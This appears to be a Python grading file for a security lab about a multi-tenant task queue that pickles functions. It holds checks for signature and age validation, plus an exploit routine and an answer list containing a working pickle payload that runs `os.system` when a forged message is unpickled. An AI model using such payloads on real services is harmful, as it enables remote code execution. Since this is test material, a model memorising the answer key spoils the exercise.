# lab: shared (the code pickles a function of the proof)
import base64
import os
from operator import concat



def prepare(code, vary):
    """Tenants with a key each, and a task of one of them."""
    keys = {f"{vary.word()}-{number}": vary.text(32).encode() for number in range(3)}
    now = 1_770_076_800.0 + vary.number(0, 10**7)
    tenant, (first, second) = vary.pick(list(keys)), (vary.word(), vary.remark())
    return code.DeferredTasks(keys), now, tenant, code.Task(tenant, now + vary.number(1, 99), concat, (first, second)), first + second


def refuses(error, function, *args):
    try:
        function(*args)
    except error:
        return True
    return False


def works(code, vary):
    tasks, now, tenant, sent, expected = prepare(code, vary)
    message = tasks.pack(sent)
    task = tasks.unpack(message, now)
    assert (task.tenant, task.function(*task.args)) == (tenant, expected), "An unpacked task should have its tenant and do its work."
    assert refuses(code.TaskError, tasks.unpack, message, now + 100), "A task that is too old should be refused."
    changed = code.Message(message.body[:-4] + "AAAA", message.attributes)
    assert refuses(code.TaskError, tasks.unpack, changed, now), "A message that was changed should be refused."
    assert refuses(code.TaskError, tasks.pack, code.Task(vary.text(9), now, concat)), "A task of an unknown tenant should be refused."


def exploit(code, vary):
    """Can write into the queue and has seen one message of it, but has no key."""
    tasks, now, _, task, _ = prepare(code, vary)
    message, file = tasks.pack(task), f"{vary.word()}.txt"
    parts = message.body.split(".")
    payload = base64.urlsafe_b64encode(f"cos\nsystem\n(S'echo > {file}'\ntR.".encode()).decode()
    for index in range(len(parts)):
        forged = ".".join(parts[:index] + [payload] + parts[index + 1 :])
        try:
            tasks.unpack(code.Message(forged, message.attributes), now)
        except Exception:
            pass
    sent = "a message in the queue whose body is a pickle that calls os.system, without a valid signature"
    damage = "Loading the task ran a command, before or without a look at the signature."
    return {"sent": sent, "got": f"the file {file} on the server", "damage": damage} if os.path.exists(file) else False


# Attack mode: the learner writes the input.
def attack(code, input, vary):
    tasks, now, _, task, _ = prepare(code, vary)
    message = tasks.pack(task)
    parts = message.body.split(".")
    # The task is the longest part, wherever a fix has put it.
    place = max(range(len(parts)), key=lambda at: len(parts[at]))
    parts[place] = base64.urlsafe_b64encode(input["task"].encode("latin-1", "replace")).decode()
    answer = "The worker has taken the task."
    try:
        tasks.unpack(code.Message(".".join(parts), message.attributes), now)
    except Exception as error:
        answer = f"{type(error).__name__}: {error}"
    is_done = os.path.exists("taken")
    return {"isDone": is_done, "shown": f"The file taken is on the worker.\n{answer}" if is_done else answer}


ATTACKS = [
    {"input": {"task": "cos\nsystem\n(S'echo > taken'\ntR."}, "isDone": True},
    {"input": {"task": '{"tenant":"acme"}'}, "isDone": False},
    {"input": {"task": "touch taken"}, "isDone": False},
]
